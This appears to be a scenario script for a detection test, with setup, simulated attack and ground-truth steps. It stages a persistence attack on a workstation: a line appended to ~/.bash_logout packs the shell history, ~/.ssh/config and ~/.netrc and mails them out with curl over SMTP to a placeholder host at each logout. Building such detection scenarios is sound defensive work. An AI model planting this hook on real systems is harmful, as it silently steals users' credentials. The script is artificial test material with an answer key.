# It happens when the person leaves.
title="~/.bash_logout mails the shell history and key files past the relay with curl at every logout"
what="Somebody with dev's login appends a line to ~/.bash_logout. At each logout curl takes the history, ~/.ssh/config and ~/.netrc, packed into a MIME file in ~/.cache, to smtp.example.com port 587 with an account of its own. Dev's ordinary sessions trigger it three times."
host=ws3.example.org user=dev daemons="cron sshd" syslog_format=iso
shift_plan="plant:10m one:50m two:2h three:1h"
setup() {
  mkdir -p /home/dev/src/app; printf 'print("ok")\n' > /home/dev/src/app/main.py; echo 'machine git.example.org login dev password x' > /home/dev/.netrc; chmod 600 /home/dev/.netrc
  install -d -m 700 /home/dev/.ssh; printf 'Host git\n  HostName 198.51.100.30\n' > /home/dev/.ssh/config; printf 'ls\ncd src\n' > /home/dev/.bash_history; chown -R dev: /home/dev
}
act() {
  phase plant
  small_talk 2
  ssh_run dev "mkdir -p ~/.cache/motd; cat >> ~/.bash_logout <<'E'
( { echo 'Subject: s'; echo; tar czf - -C ~ .bash_history .ssh/config .netrc 2>/dev/null | base64; } > ~/.cache/motd/n; curl -s -m 8 --url smtp://smtp.example.com:587 --mail-from n7@example.com --mail-rcpt box41@example.com -T ~/.cache/motd/n; rm -f ~/.cache/motd/n ) >/dev/null 2>&1
E"
  phase one
  small_talk 2
  ssh_as dev <<'L'
cd src/app
python3 main.py
git init -q .
git add -A
git status --short
L
  phase two
  small_talk 3
  ssh_as dev <<'L'
cd src/app
echo 'print("two")' >> main.py
python3 main.py
mail -s "build done" clerk < main.py
L
  phase three
  small_talk 2
  ssh_as dev <<'L'
ls src
curl -s http://198.51.100.30/api
L
  sleep 2
}
truth() {
  file_step plant 'bash open(at)?:write .*/home/dev/.bash_logout' 'the logout script grows'
  exec_step pack 'tar czf - -C /home/dev .bash_history' 'at logout the files are packed'
  exec_step send 'curl -s -m 8 --url smtp://smtp.example.com:587' 'and sent by curl'
  net_step smtp 'curl 203.0.113.25:587' 'past the relay'
}
